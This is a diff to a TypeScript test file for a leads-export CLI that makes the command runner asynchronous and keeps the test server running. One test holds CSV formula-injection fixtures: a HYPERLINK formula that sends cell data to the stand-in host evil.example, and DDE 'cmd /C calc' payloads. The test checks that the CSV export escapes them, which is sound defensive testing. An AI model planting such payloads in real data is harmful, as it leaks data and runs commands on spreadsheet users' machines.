@@ -1,4 +1,5 @@
-import { execFileSync } from "node:child_process";
+import { execFile } from "node:child_process";
+import { promisify } from "node:util";
 import { eq } from "drizzle-orm";
 import { describe, expect, it } from "vitest";
 import { openDatabase } from "../../server/db/client";
@@ -6,14 +7,20 @@ import { contacts, subscribers } from "../../server/db/schema";
 import { startAppWith } from "../../server/testing/app";
 import { BACKENDS, formToken, testConfig } from "../../server/testing/support";
 
-const leads = (args: string[], env: Record<string, string>) =>
-  execFileSync(process.execPath, ["--import", "tsx", "scripts/cli/leads.ts", ...args], {
-    env: { ...process.env, ...env },
-    encoding: "utf8",
-  });
+/**
+ * Runs the command (asynchronously: on the embedded database, with the test's server running, its queries go through
+ * that server, which answers in this process).
+ */
+const leads = async (args: string[], env: Record<string, string>) =>
+  (
+    await promisify(execFile)(process.execPath, ["--import", "tsx", "scripts/cli/leads.ts", ...args], {
+      env: { ...process.env, ...env },
+      encoding: "utf8",
+    })
+  ).stdout;
 
 describe("npm run leads", () => {
-  it("exports contacts and confirmed subscribers only, as JSON and CSV, filtered by date", async () => {
+  it("exports contacts and confirmed subscribers only, as JSON and CSV, filtered by date, while the server runs", async () => {
     const config = await testConfig("pglite");
     const app = await startAppWith(config);
     const post = (url: string, payload: object) =>
@@ -38,10 +45,10 @@ describe("npm run leads", () => {
       .update(subscribers)
       .set({ status: "confirmed", confirmedAt: new Date() })
       .where(eq(subscribers.email, "confirmed@example.org"));
-    await app.close();
 
+    // The server keeps running on the embedded database: the command goes through it (decision 034).
     const env = { DATA_DIR: config.dataDir, DATABASE_URL: "" };
-    const rows = JSON.parse(leads(["export", "--format", "json"], env)) as {
+    const rows = JSON.parse(await leads(["export", "--format", "json"], env)) as {
       type: string;
       email: string;
       name: string;
@@ -50,11 +57,11 @@ describe("npm run leads", () => {
       ["contact", "nadia@example.org"],
       ["subscriber", "confirmed@example.org"],
     ]);
-    const csv = leads(["export"], env);
+    const csv = await leads(["export"], env);
     expect(csv.split("\n")[0]).toBe("type,date,name,email,company,phone,service,budget,message");
     expect(csv).toContain('"Nadia, ""The"" Client"');
-    expect(JSON.parse(leads(["export", "--format", "json", "--since", "2999-01-01"], env))).toEqual([]);
-    expect(leads(["list"], env)).toMatch(/^1 contact, 1 confirmed subscriber/);
+    expect(JSON.parse(await leads(["export", "--format", "json", "--since", "2999-01-01"], env))).toEqual([]);
+    expect(await leads(["list"], env)).toMatch(/^1 contact, 1 confirmed subscriber/);
   }, 60_000);
 });
 
@@ -89,7 +96,7 @@ describe.each(BACKENDS)("npm run leads -- export on %s", (backend) => {
     await database.close();
 
     const env = { DATA_DIR: config.dataDir, DATABASE_URL: config.databaseUrl ?? "" };
-    expect(leads(["export"], env)).toBe(
+    expect(await leads(["export"], env)).toBe(
       [
         "type,date,name,email,company,phone,service,budget,message",
         `contact,2026-03-01T10:00:00.000Z,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",eve@example.org,'+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,"'\t=1+1","'\r=1+1"`,
@@ -99,7 +106,7 @@ describe.each(BACKENDS)("npm run leads -- export on %s", (backend) => {
       ].join("\n"),
     );
     // JSON is not opened by spreadsheets: values stay as stored.
-    const json = JSON.parse(leads(["export", "--format", "json"], env)) as Record<string, string>[];
+    const json = JSON.parse(await leads(["export", "--format", "json"], env)) as Record<string, string>[];
     expect(json[0]).toMatchObject({
       name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
       budget: "\t=1+1",
